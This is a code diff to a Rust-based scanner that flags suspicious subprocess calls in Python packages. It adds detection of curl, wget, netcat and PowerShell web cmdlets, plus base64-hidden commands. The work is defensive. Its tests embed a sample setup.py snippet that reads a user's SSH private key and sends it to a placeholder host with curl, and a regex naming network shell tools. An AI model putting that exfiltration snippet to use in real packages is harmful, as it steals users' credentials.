@@ -219,7 +219,68 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
         _ => classify_command(command.as_ref(), qualname, context, &shown),
     };
     checker.report(&RULE, call.range(), message, severity, tags);
-    super::data_flow::check_sink(checker, call, super::data_flow::SinkKind::Process);
+    let text = command
+        .as_ref()
+        .or(partial.as_ref())
+        .unwrap_or(&shown)
+        .clone();
+    let sink = if network_tool(&text).is_some() {
+        super::network::check_tool_call(checker, call, &text);
+        super::data_flow::SinkKind::Network
+    } else {
+        super::data_flow::SinkKind::Process
+    };
+    super::data_flow::check_sink(checker, call, sink);
+    check_hidden_command(checker, call, command_arg, &text, context);
+}
+
+/// `curl`, `wget`, `nc` and PowerShell's web cmdlets as the program a command runs: what they
+/// are given goes over the network, like the arguments of `requests.post`.
+pub fn network_tool(command: &str) -> Option<&'static str> {
+    static HEAD: LazyLock<Regex> = crate::static_regex!(
+        r"(?i)(^|[\s;&|(/\\])(curl|wget|nc|ncat|invoke-webrequest|invoke-restmethod|iwr|irm)(\.exe)?(\s|$)"
+    );
+    let captures = HEAD.captures(command)?;
+    Some(
+        match captures.get(2)?.as_str().to_ascii_lowercase().as_str() {
+            "curl" => "curl",
+            "wget" => "wget",
+            "nc" | "ncat" => "netcat",
+            _ => "PowerShell",
+        },
+    )
+}
+
+/// A command the code decodes before running it. Build scripts spell their commands out;
+/// base64 around `os.system`'s argument hides what runs from whoever reviews the package.
+fn check_hidden_command(
+    checker: &mut Checker,
+    call: &ExprCall,
+    command_arg: Option<&ruff_python_ast::Expr>,
+    command: &str,
+    context: ExecContext,
+) {
+    let Some(arg) = command_arg else {
+        return;
+    };
+    let Some(decoder) = super::dynamic_exec::contains_decoding(checker, arg) else {
+        return;
+    };
+    let severity = match context {
+        ExecContext::Install | ExecContext::Import => 0.6,
+        ExecContext::Runtime => 0.35,
+        ExecContext::TestOrDocs => 0.1,
+    };
+    checker.report(
+        &RULE,
+        call.range(),
+        format!(
+            "runs `{}`, a command hidden with {decoder}",
+            crate::text::shorten(command, 120)
+        ),
+        severity,
+        vec!["spawn", "hidden-command", "obfuscation"],
+    );
 }
 
 /// `creationflags=CREATE_NO_WINDOW` or `DETACHED_PROCESS`: a process the user must not see.
@@ -428,6 +489,32 @@ mod tests {
         assert!(!starts_dropped_file("git describe"));
         let code = "import subprocess\nsubprocess.Popen('C:\\\\Temp\\\\x.exe')\n";
         assert!(max_severity("p/setup.py", code, "WH120") >= 0.7);
+    }
+
+    #[test]
+    fn network_tools_are_recognised_as_the_program() {
+        assert_eq!(
+            network_tool("curl -F file=@x https://x.invalid"),
+            Some("curl")
+        );
+        assert_eq!(network_tool("/usr/bin/wget -q x"), Some("wget"));
+        assert_eq!(network_tool("powershell iwr http://x"), Some("PowerShell"));
+        assert_eq!(network_tool("git describe"), None);
+        assert_eq!(network_tool("ncurses-config"), None);
+        // A stolen key handed to curl is a key sent over the network.
+        let code = "import os, subprocess\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nsubprocess.check_output(['curl', 'https://x.invalid/?k=' + k])\n";
+        assert!(max_severity("p/setup.py", code, "WH200") >= 0.85);
+        assert!(max_severity("p/setup.py", code, "WH130") >= 0.5);
+    }
+
+    #[test]
+    fn commands_hidden_by_encoding_are_reported() {
+        // base64 of "type nul > x.txt"
+        let code =
+            "import os, base64\nos.system(base64.b64decode('dHlwZSBudWwgPiB4LnR4dA==').decode())\n";
+        assert!(max_severity("p/setup.py", code, "WH120") >= 0.6);
+        let plain = "import os\nos.system('type nul > x.txt')\n";
+        assert!(max_severity("p/setup.py", plain, "WH120") < 0.2);
     }
 
     #[test]
